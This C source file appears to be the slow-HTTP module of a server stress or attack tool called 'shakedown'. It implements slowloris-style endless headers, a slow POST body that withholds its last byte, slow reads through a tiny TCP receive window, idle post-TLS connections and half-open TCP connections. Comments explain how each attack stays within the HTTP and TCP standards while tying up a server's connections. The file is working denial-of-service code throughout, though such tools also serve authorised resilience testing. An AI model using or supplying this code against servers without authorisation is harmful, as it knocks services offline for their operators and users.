/*
 * slow_http.c - attacks on a server's patience with HTTP/1.1 requests and with silence.
 *
 * Nothing here breaks RFC 9112: each message is the legal beginning of one, or a whole one whose
 * answer is taken slowly.
 */
#include <stdio.h>
#include <string.h>

#include "base/arena.h"
#include "base/err.h"
#include "base/rng.h"
#include "driver/slow.h"

static void say_opening(struct slow_conn *s)
{
    slow_say(s, s->lane->job->opening, s->lane->job->opening_len);
}

/* RFC 9110 7.2: the port is named unless it is the scheme's own. */
const char *slow_host(const struct target *t, struct arena *arena)
{
    bool v6 = strchr(t->host, ':') != NULL;
    const char *host = v6 ? arena_printf(arena, "[%s]", t->host) : t->host;

    if (t->port == (strcmp(t->scheme, "https") == 0 ? 443 : 80))
        return host;
    return arena_printf(arena, "%s:%u", host, t->port);
}

static void set_opening(struct slow_job *j, const char *text)
{
    j->opening = text;
    j->opening_len = strlen(text);
}

static const char *start_of(const struct slow_job *j, const char *method, struct arena *arena)
{
    const struct slow_opts *o = j->opts;

    return arena_printf(arena, "%s %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: shakedown\r\n", method,
                        o->path ? o->path : o->target->path, slow_host(o->target, arena));
}

static bool prepare_headers(struct slow_job *j, struct job *job, struct err *e)
{
    (void)e;
    set_opening(j, start_of(j, "GET", job->arena));
    return true;
}

static void follow_headers(struct slow_conn *s)
{
    uint64_t r = rng_next(&s->op->lane->rng);
    char line[48];

    slow_say(s, line,
             (size_t)snprintf(line, sizeof(line), "X-%06x: %08x\r\n", (unsigned)(r & 0xffffff),
                              (unsigned)(r >> 32)));
}

static bool prepare_body(struct slow_job *j, struct job *job, struct err *e)
{
    (void)e;
    set_opening(j, arena_printf(job->arena,
                                "%sContent-Type: application/octet-stream\r\nContent-Length: "
                                "%zu\r\n\r\n",
                                start_of(j, "POST", job->arena), j->size));
    return true;
}

/* The last byte is kept back: a request that is complete holds nothing. */
static void follow_body(struct slow_conn *s)
{
    static const char zeros[SLOW_SCRATCH];
    size_t left = s->lane->job->size - 1 - s->at, n = s->lane->job->piece;

    if (n >= left) {
        n = left;
        s->next_ns = UINT64_MAX;
    }
    s->at += n;
    slow_say(s, zeros, n);
}

static bool prepare_read(struct slow_job *j, struct job *job, struct err *e)
{
    const char *start = start_of(j, "GET", job->arena);
    size_t len = strlen(start) + 2;
    int64_t n = j->opts->requests;
    char *all = arena_alloc(job->arena, len * (size_t)n);

    (void)e;
    for (int64_t i = 0; i < n; i++) {
        memcpy(all + (size_t)i * len, start, len - 2);
        memcpy(all + (size_t)(i + 1) * len - 2, "\r\n", 2);
    }
    j->opening = all;
    j->opening_len = len * (size_t)n;
    j->route.receive_buffer = (int)j->opts->window;
    return true;
}

/* All that fits the small window: less would not make the kernel announce a new one (RFC 9293
 * 3.8.6.2.2). */
static void follow_read(struct slow_conn *s)
{
    slow_listen(s, SLOW_SCRATCH);
}

#define S INT64_C(1000000000)

const struct slow_attack slow_headers = {
    .name = "headers",
    .brief = "a request that never ends: one more header line at a time",
    .takes = TAKES_EVERY | TAKES_PATH,
    .every = 10 * S,
    .reads = true,
    .prepare = prepare_headers,
    .begin = say_opening,
    .follow = follow_headers,
};

const struct slow_attack slow_body = {
    .name = "body",
    .brief = "a large Content-Length, and the body in small pieces",
    .takes = TAKES_EVERY | TAKES_PATH | TAKES_PIECE | TAKES_SIZE,
    .every = 10 * S,
    .piece = 1,
    .size = 1 << 20,
    .reads = true,
    .prepare = prepare_body,
    .begin = say_opening,
    .follow = follow_body,
};

const struct slow_attack slow_read = {
    .name = "read",
    .brief = "requests at once, and their answers read slowly through a small window",
    .takes = TAKES_EVERY | TAKES_PATH | TAKES_WINDOW | TAKES_REQUESTS,
    .every = 5 * S,
    .prepare = prepare_read,
    .begin = say_opening,
    .follow = follow_read,
};

const struct slow_attack slow_idle = {
    .name = "idle",
    .brief = "an established connection, after its TLS handshake, and silence",
    .reads = true,
};

const struct slow_attack slow_half_open = {
    .name = "half-open",
    .brief = "a TCP connection on which nothing is said, not even a ClientHello",
    .raw = true,
    .reads = true,
};
